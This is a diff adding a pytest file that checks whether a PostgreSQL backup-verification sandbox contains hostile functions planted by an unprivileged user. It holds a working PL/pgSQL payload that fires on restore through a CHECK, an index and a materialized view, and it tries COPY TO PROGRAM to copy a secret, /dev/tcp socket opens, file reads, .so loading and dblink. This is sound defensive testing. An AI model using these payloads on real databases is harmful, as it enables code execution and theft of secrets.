@@ -1,0 +1,135 @@
+"""What an ordinary user of a PostgreSQL database can plant there does nothing to the machine that proves its backup.
+
+A restore runs functions of the source as the scratch server's superuser: a CHECK when rows are loaded, an index's
+expression when it is built, a materialized view's query when it is filled. Each tries everything a superuser can.
+"""
+
+import os
+import secrets
+import socket
+import threading
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+
+from ops_pipelines.backup.take import take_backup
+from ops_pipelines.recovery.verify import verify
+from ops_pipelines.sandbox import isolation
+from ops_pipelines.vault.verdict import Verdict
+from tests.conftest import Made, MakeWorkspace, TestServer
+
+# Every attempt by itself: what is refused does not stop the next.
+ATTACK = """
+create function public.attack() returns boolean language plpgsql volatile as $attack$
+declare tried text;
+begin
+  foreach tried in array array[
+    $$copy (select 1) to program 'touch {canary}/program; cat {secret} > {canary}/secret'$$,
+    $$copy (select 1) to program 'exec 3<>/dev/tcp/127.0.0.1/{port}'$$,
+    $$copy (select 1) to program 'bash -c "exec 3<>/dev/tcp/127.0.0.1/{port}"'$$,
+    $$copy (select 'copied') to '{canary}/copy'$$,
+    $$copy (select pg_read_file('{secret}')) to '{canary}/read'$$,
+    $$select lo_export(lo_from_bytea(0, 'x'), '{canary}/large object')$$,
+    $$load '{canary}/evil.so'$$,
+    $$alter system set archive_command = 'touch {canary}/archived'$$,
+    $$select pg_ls_dir('{canary}')$$,
+    $$create extension dblink$$,
+    $$select dblink_connect('host=127.0.0.1 port={port}')$$
+  ] loop
+    begin
+      execute tried;
+    exception when others then null;
+    end;
+  end loop;
+  return true;
+end $attack$
+"""
+PLANTED = (
+    "create table by_check (id int check (public.attack()))",
+    "insert into by_check values (1)",
+    "create table by_index (id int)",
+    "insert into by_index values (1)",
+    # What only promises to be immutable may call what is not.
+    "create function quiet() returns boolean language plpgsql immutable as 'begin return public.attack(); end'",
+    "create index on by_index ((quiet()))",
+    "create materialized view by_view as select public.attack() as done",
+)
+
+
+@dataclass
+class Canary:
+    """A folder that everybody may write to, a secret that everybody may read, and somebody who counts callers."""
+
+    folder: Path
+    secret: Path
+    port: int
+    called: list[object] = field(default_factory=list)
+
+
+@pytest.fixture
+def canary(tmp_path: Path) -> Iterator[Canary]:
+    for each in (tmp_path, *tmp_path.parents):
+        if each.stat().st_uid == os.geteuid() and each != Path("/"):
+            each.chmod(each.stat().st_mode | 0o011)
+    folder, secret = tmp_path / "canary", tmp_path / "secret"
+    folder.mkdir()
+    folder.chmod(0o777)
+    secret.write_text("AGE-SECRET-KEY", encoding="utf-8")
+    secret.chmod(0o644)
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        found = Canary(folder, secret, listener.getsockname()[1])
+
+        def answer() -> None:
+            while True:
+                try:
+                    client, address = listener.accept()
+                except OSError:
+                    return
+                found.called.append(address)
+                client.close()
+
+        threading.Thread(target=answer, daemon=True).start()
+        yield found
+        listener.shutdown(socket.SHUT_RDWR)
+
+
+def attacked(pg: TestServer, make_workspace: MakeWorkspace, canary: Canary, **source: object) -> tuple[Made, Verdict]:
+    """A database that an ordinary user filled with attacks, saved and proved."""
+    database = pg.new_database()
+    intern = f"intern_{secrets.token_hex(4)}"
+    pg.sql(f"create role {intern} login")
+    pg.sql(f'grant create on database "{database}" to {intern}', f"grant create, usage on schema public to {intern}",
+           database=database)  # fmt: skip
+    planting = ATTACK.format(canary=canary.folder, secret=canary.secret, port=canary.port)
+    pg.sql(f"set role {intern}", planting, *PLANTED, database=database)
+    assert not list(canary.folder.iterdir()), "at the source an ordinary user may do none of it"
+    # As docs/rights.md has it. What a superuser reads may run functions of others with all his rights, at the source.
+    reader = f"reader_{secrets.token_hex(4)}"
+    pg.sql(
+        f"create role {reader} login bypassrls password 'reads-only'", f"grant pg_read_all_data, pg_monitor to {reader}"
+    )
+    made = make_workspace(pg.url(database, user=reader, password="reads-only"), **source)
+    take_backup(made.workspace, "crm")
+    point = made.workspace.catalogue("crm").newest
+    assert point is not None
+    return made, verify(made.workspace, point)
+
+
+@pytest.mark.skipif(isolation.standing().best != "sandbox", reason="no sandbox can be had here")
+def test_in_the_sandbox_it_does_nothing(pg: TestServer, make_workspace: MakeWorkspace, canary: Canary) -> None:
+    made, verdict = attacked(pg, make_workspace, canary)
+    assert verdict.outcome == "verified", verdict.reason
+    assert not list(canary.folder.iterdir())
+    assert canary.called == []
+    assert [path for path in made.workspace.scratch_root.iterdir() if path.is_dir()] == []
+
+
+def test_without_a_sandbox_it_would(pg: TestServer, make_workspace: MakeWorkspace, canary: Canary) -> None:
+    """The attack is a real one: else the other test would prove nothing."""
+    _made, verdict = attacked(pg, make_workspace, canary, verify={"isolation": "none"})
+    assert {"program", "secret"} <= {path.name for path in canary.folder.iterdir()}
+    assert (canary.folder / "secret").read_text() == "AGE-SECRET-KEY"
+    (told,) = [check for check in verdict.notable if check.name == "isolation"]
+    assert "isolation: none" in told.detail
